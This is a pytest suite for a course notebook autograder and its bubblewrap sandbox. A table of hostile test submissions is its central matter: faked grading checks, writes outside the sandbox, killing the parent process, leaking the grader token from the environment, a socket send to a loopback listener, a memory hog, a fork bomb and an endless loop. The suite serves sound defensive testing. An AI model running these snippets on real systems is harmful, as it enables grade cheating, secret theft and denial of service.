"""Grading a class: the issue's table of mischief, limits, resume, jobs, reports, release and check-submission.

Every row of the table is one submission made from chapter 1's solved notebook with its first exercise cell
(``normalize_pixels``) changed; all of them, with a solved and an untouched notebook, are graded in ONE
``grade_class(..., jobs=2)`` run in the sandbox, so the suite stays fast. For each: no credit for that exercise,
nothing outside the submission's folder changed, nothing leaked, and the solved notebook still gets full marks.
"""
from __future__ import annotations

import csv
import json
import re
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_utils.settings import PROJECT_ROOT
from course_utils.tools import classroom, cli, grading, sandbox
from course_utils.tools.classroom import grade_class, precheck
from course_utils.tools.grading import ExerciseResult, SubmissionGrade, load_chapters
from course_utils.tools.notebook_build import SOLUTION_DIR, STUDENT_DIR
from course_utils.tools.release import release
from course_utils.tools.sandbox import Limits

if sys.platform.startswith("linux"):  # CI installs bubblewrap: these tests must run there, not be skipped
    assert sandbox.sandbox_problem() is None, sandbox.sandbox_problem()
else:
    pytest.skip("the sandbox needs Linux with bubblewrap", allow_module_level=True)

TOKEN = "tok-8f3a2c-instructor-secret"
SEED = 20261206
LIMITS = Limits(memory_mb=2048, processes=128, seconds=60)

MISCHIEF = {
    "fake_checks": """\
import course_utils.checks as _checks
for _name in dir(_checks):
    if _name.startswith("check_"):
        setattr(_checks, _name, lambda *args, **kwargs: print("✅ 正确"))
def normalize_pixels(images):
    return images.astype(np.float32)  # wrong: no channel axis, not normalized
""",
    "library_call": """\
def normalize_pixels(images):
    return normalize(images)
""",
    "writes_outside": """\
(PROJECT_ROOT / "x.txt").write_text("overwritten")
Path("{outside}").write_text("overwritten")
{solution}
""",
    "kills_parent": """\
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
{solution}
""",
    "leaks_token": """\
import os
def _leak(*args, **kwargs):
    raise AssertionError("❌ " + os.environ.get("COURSE_GRADER_TOKEN", "no token here"))
checks.check_normalize_pixels = _leak
def normalize_pixels(images):
    _leak()
""",
    "connects": """\
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"my answers")
{solution}
""",
    "memory_hog": """\
_hog = [np.ones(2**27) for _ in range(64)]  # 64 GB
{solution}
""",
    "fork_bomb": """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "endless": """\
while True:
    pass
""",
}


def chapter_1():
    return next(chapter for chapter in load_chapters(PROJECT_ROOT / SOLUTION_DIR) if chapter.name == "01_data")


def solved_notebook() -> nbformat.NotebookNode:
    """Chapter 1's student notebook with every exercise cell filled in from the solution notebook."""
    nb = nbformat.read(PROJECT_ROOT / STUDENT_DIR / "01_data.ipynb", as_version=4)
    answers = {exercise.cell_id: exercise.source for exercise in chapter_1().exercises}
    for cell in nb.cells:
        cell.source = answers.get(cell.get("id"), cell.source)
    return nb


def write(path: Path, nb: nbformat.NotebookNode) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def snapshot(*folders: Path) -> dict[Path, int]:
    return {path: path.stat().st_mtime_ns for folder in folders for path in [folder, *folder.rglob("*")]
            if ".git" not in path.parts and "cache" not in path.parts and "__pycache__" not in path.parts}


class Listener:
    """A TCP server on the grader's 127.0.0.1 that records every byte anyone sends it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                self.received.append(connection.recv(1000))

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def class_run(tmp_path_factory):
    """The whole table in one run: returns the folder, the grades by student and what was watched."""
    root = tmp_path_factory.mktemp("class")
    outside = Path("/tmp") / f"course-test-outside-{time.time_ns()}.txt"
    listener = Listener()
    exercise = chapter_1().exercises[0]
    paths = {"solved": write(root / "class" / "solved" / "01_data.ipynb", solved_notebook()),
             "untouched": write(root / "class" / "untouched" / "01_data.ipynb",
                                nbformat.read(PROJECT_ROOT / STUDENT_DIR / "01_data.ipynb", as_version=4))}
    for student, source in MISCHIEF.items():
        nb = solved_notebook()
        [cell] = [cell for cell in nb.cells if cell.get("id") == exercise.cell_id]
        cell.source = source.format(solution=exercise.source, outside=outside, port=listener.port)
        paths[student] = write(root / "class" / student / "01_data.ipynb", nb)
    before = snapshot(PROJECT_ROOT, root / "class")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COURSE_GRADER_TOKEN", TOKEN)
        started = time.monotonic()
        graded = grade_class(list(paths.values()), out=root / "out", jobs=2, seed=SEED, limits=LIMITS,
                             progress=False, log=lambda line: None)
        seconds = time.monotonic() - started
    listener.close()
    by_student = {member.student: grade for member, grade in graded.graded}
    yield {"root": root, "out": root / "out", "grades": by_student, "paths": paths, "outside": outside,
           "received": listener.received, "changed": before != snapshot(PROJECT_ROOT, root / "class"),
           "seconds": seconds, "graded": graded}
    outside.unlink(missing_ok=True)
    (PROJECT_ROOT / "x.txt").unlink(missing_ok=True)


def passed(grade: SubmissionGrade) -> dict[str, bool]:
    return {result.exercise: result.passed for result in grade.results}


def test_the_solved_notebook_gets_full_marks_and_the_untouched_one_zero(class_run):
    solved, untouched = class_run["grades"]["solved"], class_run["grades"]["untouched"]
    assert solved.problem is None and solved.score == 3, solved.results
    assert untouched.problem is None and untouched.score == 0
    assert all(not result.attempted for result in untouched.results)


@pytest.mark.parametrize("student", list(MISCHIEF))
def test_mischief_earns_no_credit(class_run, student):
    grade = class_run["grades"][student]
    assert grade.chapter is not None and grade.chapter.name == "01_data"
    assert passed(grade)["normalize_pixels"] is False, grade.results


def test_the_library_call_is_named_as_the_reason(class_run):
    [result] = [r for r in class_run["grades"]["library_call"].results if r.exercise == "normalize_pixels"]
    assert "normalize" in result.message and result.message.startswith("❌")


def test_runaway_submissions_are_stopped_by_a_limit_not_by_the_end_of_the_run(class_run):
    grades = class_run["grades"]
    assert grades["endless"].seconds < LIMITS.seconds + 30
    assert grades["memory_hog"].seconds < LIMITS.seconds and grades["fork_bomb"].seconds < LIMITS.seconds + 30
    assert class_run["seconds"] < 6 * LIMITS.seconds


def test_nothing_outside_the_submissions_folders_changed(class_run):
    assert not (PROJECT_ROOT / "x.txt").exists()
    assert not class_run["outside"].exists()
    assert not class_run["changed"]


def test_nothing_reached_the_graders_loopback(class_run):
    assert class_run["received"] == []


def test_the_graders_token_is_nowhere_in_the_output(class_run):
    for path in class_run["out"].rglob("*"):
        if path.is_file():
            assert TOKEN not in path.read_text(encoding="utf-8-sig", errors="replace"), path


def test_every_submission_has_a_result_saved_under_its_content_and_the_seed(class_run):
    saved = sorted(path.name for path in (class_run["out"] / classroom.RESULTS_DIR).iterdir())
    assert len(saved) == len(class_run["paths"]) and all(name.endswith(f"-{SEED}.json") for name in saved)
    assert json.loads((class_run["out"] / classroom.RUN_FILE).read_text())["seed"] == SEED


def test_grades_csv_gradebook_and_feedback(class_run):
    out = class_run["out"]
    assert (out / "grades.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for spreadsheets
    with (out / "grades.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {(row["exercise"], row["passed"]) for row in rows if "/solved/" in row["file"]} == {
        ("normalize_pixels", "1"), ("batch_generator", "1"), ("dataset_getitem", "1")}
    with (out / "gradebook.csv").open(encoding="utf-8-sig", newline="") as handle:
        book = list(csv.reader(handle))
    header = book[0]
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"] and "01_data" in header
    scores = {row[0]: row[header.index("01_data")] for row in book[1:]}
    assert scores["solved"] == "3" and scores["untouched"] == "0" and scores["library_call"] in {"0", "1", "2"}
    assert {row[3] for row in book[1:]} == set(class_run["paths"])  # SIS Login ID: the student's folder name
    assert all(row[header.index("02_network")] == "" for row in book[1:])  # not handed in: left empty
    feedback = (out / "feedback" / "solved.md").read_text(encoding="utf-8")
    assert "3/3" in feedback and feedback.count("- ✅") == 3
    hog = (out / "feedback" / "memory_hog.md").read_text(encoding="utf-8")
    assert "- ❌ `normalize_pixels`" in hog


def test_one_job_gives_the_same_grades_as_two(class_run, tmp_path):
    names = ["solved", "untouched", "library_call"]
    alone = grade_class([class_run["paths"][name] for name in names], out=tmp_path / "out", jobs=1, seed=SEED,
                        limits=LIMITS, progress=False, log=lambda line: None)
    for member, grade in alone.graded:
        assert passed(grade) == passed(class_run["grades"][member.student]), member.student


def fake_grader(calls: list[str], interrupt_at: int | None = None):
    """A grade_submission that passes notebooks named ``good*`` and counts its calls; it raises KeyboardInterrupt
    (as Ctrl-C would) when asked for its ``interrupt_at``-th grade."""

    def grade_submission(path, chapters, *, work, seed, limits, isolate=True):
        calls.append(Path(path).name)
        if interrupt_at is not None and len(calls) == interrupt_at:
            raise KeyboardInterrupt
        chapter = chapters[0]
        good = Path(path).name.startswith("good")
        return SubmissionGrade(str(path), chapter, [ExerciseResult(e.name, good, "✅" if good else "❌", 0.1)
                                                    for e in chapter.exercises], seconds=0.1)

    return grade_submission


def test_an_interrupted_run_keeps_its_results_and_resume_grades_only_the_rest(tmp_path, monkeypatch):
    monkeypatch.setattr(grading, "prepare_work", lambda dest, **options: dest.mkdir(parents=True) or dest)
    paths = []
    for number in range(6):
        path = tmp_path / "class" / f"{'good' if number % 2 else 'bad'}{number}.ipynb"
        path.parent.mkdir(exist_ok=True)
        path.write_text(json.dumps({"n": number}))  # content differs: six keys
        paths.append(path)
    out = tmp_path / "out"
    calls: list[str] = []
    monkeypatch.setattr(grading, "grade_submission", fake_grader(calls, interrupt_at=4))
    with pytest.raises(KeyboardInterrupt):
        grade_class(paths, out=out, jobs=1, progress=False, log=lambda line: None)
    kept = len(list((out / classroom.RESULTS_DIR).iterdir()))
    assert 3 <= kept <= 5  # the three before the interruption; and what finished meanwhile, if anything
    seed = json.loads((out / classroom.RUN_FILE).read_text())["seed"]

    with pytest.raises(Exception, match="--resume"):
        grade_class(paths, out=out, jobs=1, progress=False, log=lambda line: None)
    with pytest.raises(Exception, match=f"--seed {seed}"):
        grade_class(paths, out=out, jobs=1, resume=True, seed=seed + 1, progress=False, log=lambda line: None)

    again: list[str] = []
    monkeypatch.setattr(grading, "grade_submission", fake_grader(again))
    resumed = grade_class(paths, out=out, jobs=2, resume=True, progress=False, log=lambda line: None)
    assert len(again) == 6 - kept and "good3.ipynb" in again and not set(again) & {"bad0.ipynb", "good1.ipynb"}
    assert (resumed.seed, resumed.graded_now, resumed.reused) == (seed, 6 - kept, kept)
    assert [grade.score for _, grade in resumed.graded] == [0, 3, 0, 3, 0, 3]


def test_students_are_named_by_their_folder_or_else_by_their_file(tmp_path):
    assert classroom.student_ids([tmp_path / "alice" / "01.ipynb", tmp_path / "bob" / "01.ipynb"]) == ["alice", "bob"]
    assert classroom.student_ids([tmp_path / "alice.ipynb", tmp_path / "bob.ipynb"]) == ["alice", "bob"]


def test_release_holds_what_students_need_and_no_solution(tmp_path):
    dest = tmp_path / "release"
    files = release(dest)
    top = {path.relative_to(dest).parts[0] for path in files}
    assert top == {"student", "course_utils", "work", "README.md", "pyproject.toml", "environment.yml", "LICENSE"}
    assert sorted(path.name for path in (dest / "student").iterdir()) == sorted(
        path.name for path in (PROJECT_ROOT / STUDENT_DIR).glob("*.ipynb"))
    assert not list(dest.rglob("*.pdckpt")) and not list(dest.rglob("__pycache__"))
    assert {path.name for path in (dest / "work").iterdir()} >= {"example_0.jpg", "README.md"}

    def lines(text: str) -> str:
        return "\n".join(line.strip() for line in text.splitlines() if line.strip())

    texts = {path: lines(path.read_text(encoding="utf-8", errors="replace")) for path in files
             if path.suffix not in {".jpg", ".png"}}
    regions = []
    for notebook in (PROJECT_ROOT / SOLUTION_DIR).glob("*.ipynb"):
        for cell in nbformat.read(notebook, as_version=4).cells:
            regions += re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", cell.source, re.S)
            regions += re.findall(r"<!-- BEGIN SOLUTION -->(.*?)<!-- END SOLUTION -->", cell.source, re.S)
    assert len(regions) >= 10
    for region in regions:
        found = [str(path) for path, text in texts.items() if lines(region) in text]
        assert not found, f"solution text in the release: {region[:80]!r} in {found}"
    with pytest.raises(Exception, match="not an empty folder"):
        release(dest)


def test_check_submission_catches_empty_unsaved_and_wrong_chapter_notebooks(tmp_path):
    chapters = load_chapters(PROJECT_ROOT / SOLUTION_DIR)
    empty = nbformat.v4.new_notebook()
    _, problems = precheck(write(tmp_path / "empty.ipynb", empty), chapters)
    assert problems and "空的 the notebook is empty" in problems[0]
    untouched = nbformat.read(PROJECT_ROOT / STUDENT_DIR / "01_data.ipynb", as_version=4)
    chapter, problems = precheck(write(tmp_path / "01_data.ipynb", untouched), chapters)
    assert chapter.name == "01_data" and len(problems) == 1 and problems[0].startswith("没有保存的改动 unsaved")
    chapter, problems = precheck(write(tmp_path / "03_training.ipynb", solved_notebook()), chapters)
    assert chapter.name == "01_data" and len(problems) == 1
    assert problems[0].startswith("章节不对 wrong chapter: the file name says chapter 3")
    assert precheck(write(tmp_path / "mine" / "01_data.ipynb", solved_notebook()), chapters)[1] == []


def test_check_submission_runs_what_the_grader_runs(tmp_path, capsys):
    solved = write(tmp_path / "01_data.ipynb", solved_notebook())
    assert cli.main(["check-submission", str(solved)]) == 0
    printed = capsys.readouterr().out
    assert "将批改 will be graded: 第 1 章" in printed and "normalize_pixels, batch_generator, dataset_getitem" in printed
    assert printed.strip().endswith("第 1 章  3/3")


def test_grade_refuses_without_bubblewrap_unless_told(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox, "sandbox_problem", lambda: "bubblewrap (bwrap) is not installed: install it")
    assert cli.main(["grade", str(tmp_path / "x.ipynb"), "--out", str(tmp_path / "out")]) == 2
    assert capsys.readouterr().err == "error: bubblewrap (bwrap) is not installed: install it\n"
    assert not (tmp_path / "out").exists()
